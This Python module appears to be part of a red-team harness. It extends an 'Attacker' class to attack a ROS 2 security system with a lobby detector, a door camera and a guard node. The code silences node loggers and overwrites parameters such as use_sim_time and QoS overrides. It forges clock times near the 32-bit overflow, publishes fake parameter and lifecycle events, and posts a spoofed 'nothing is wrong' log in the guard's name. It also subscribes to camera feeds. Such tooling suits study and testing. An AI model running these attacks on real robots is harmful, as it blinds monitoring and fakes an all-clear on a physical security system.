# SPDX-License-Identifier: Apache-2.0
"""The same attacker by other ways: further services, settings that ROS itself knows, other types
and qualities of service, false times and events.

``python other_ways.py ATTACK [NUMBER]``, as ``attacker.py``.
"""

import time
from typing import Any

from attacker import (  # type: ignore[import-not-found]  # beside it
    DEVICE,
    LATCHED,
    NODES,
    Attacker,
    main,
)
from builtin_interfaces.msg import Time
from lifecycle_msgs.msg import State, TransitionEvent
from lifecycle_msgs.srv import GetAvailableStates, GetAvailableTransitions
from rcl_interfaces.msg import Log, LoggerLevel, Parameter, ParameterEvent
from rcl_interfaces.srv import (
    DescribeParameters,
    GetLoggerLevels,
    GetParameterTypes,
    SetLoggerLevels,
    SetParameters,
)
from rclpy.parameter import Parameter as Setting
from rclpy.qos import QoSProfile, ReliabilityPolicy
from rosgraph_msgs.msg import Clock
from sensor_msgs.msg import CompressedImage
from std_msgs.msg import String, UInt8MultiArray

SERVICES: dict[str, Any] = {
    "describe_parameters": DescribeParameters,
    "get_parameter_types": GetParameterTypes,
    "get_logger_levels": GetLoggerLevels,
    "set_logger_levels": SetLoggerLevels,
    "get_available_states": GetAvailableStates,
    "get_available_transitions": GetAvailableTransitions,
    "get_transition_graph": GetAvailableTransitions,
}
SETTINGS = {
    "use_sim_time": True,
    "start_type_description_service": True,
    "qos_overrides./zone_reports.publisher.depth": 1,
    "qos_overrides./lobby/tracks.publisher.reliability": "best_effort",
}
KINDS = (
    Clock, ParameterEvent, TransitionEvent, Log, String, UInt8MultiArray, CompressedImage,
)  # fmt: skip


class OtherWays(Attacker):
    """Who looks for what the first one left out."""

    def services_beside(self) -> dict[str, Any]:
        """Every service that a node of ROS may have, asked of each; what answered."""
        answers = {}
        for node in (*NODES, *DEVICE):
            for name, kind in SERVICES.items():
                request = kind.Request()
                if kind is SetLoggerLevels:
                    request.levels = [LoggerLevel(name="", level=50)]  # silence
                answers[f"{node}/{name}"] = self._call(kind, f"{node}/{name}", request, 0.1)
        return answers

    def settings_of_ros(self) -> dict[str, Any]:
        """Settings that rclpy declares by itself; what answered."""
        wanted = [Setting(name, value=value).to_parameter_msg() for name, value in SETTINGS.items()]
        return {
            node: self._call(
                SetParameters, f"{node}/set_parameters", SetParameters.Request(parameters=wanted)
            )
            for node in (*NODES, *DEVICE)
        }

    def false_news(self) -> dict[str, Any]:
        """Another century, changes that never were, and an all-clear in the guard's name."""
        clock, events, moves, log = (
            self.node.create_publisher(kind, topic, LATCHED)
            for kind, topic in (
                (Clock, "/clock"), (ParameterEvent, "/parameter_events"),
                (TransitionEvent, "/lobby/detection/transition_event"), (Log, "/rosout"),
            )
        )  # fmt: skip
        began_s = time.time()
        for second in range(60):
            clock.publish(Clock(clock=Time(sec=2**31 - 100 + second)))
            events.publish(
                ParameterEvent(node="/uplink", changed_parameters=[Parameter(name="url")])
            )
            active, idle = State(id=3, label="active"), State(id=2, label="inactive")
            moves.publish(TransitionEvent(start_state=active, goal_state=idle))
            log.publish(Log(name="guard", level=20, msg="nothing is wrong"))
            time.sleep(0.1)
        return {"began_s": began_s}

    def other_types(self) -> dict[str, Any]:
        """Listen and speak with another type, another quality of service, and as no image."""
        began_s = time.time()
        quality = QoSProfile(depth=1, reliability=ReliabilityPolicy.BEST_EFFORT)
        self.node.create_subscription(String, "/lobby/tracks", print, quality)
        self.node.create_publisher(String, "/zone_reports", quality)
        self.node.create_publisher(UInt8MultiArray, "/lobby/thumbnail", quality)
        self.node.create_subscription(CompressedImage, "/door/image_raw/compressed", print, quality)
        time.sleep(8.0)
        return {"began_s": began_s}


if __name__ == "__main__":
    main(OtherWays, KINDS, SERVICES.values())
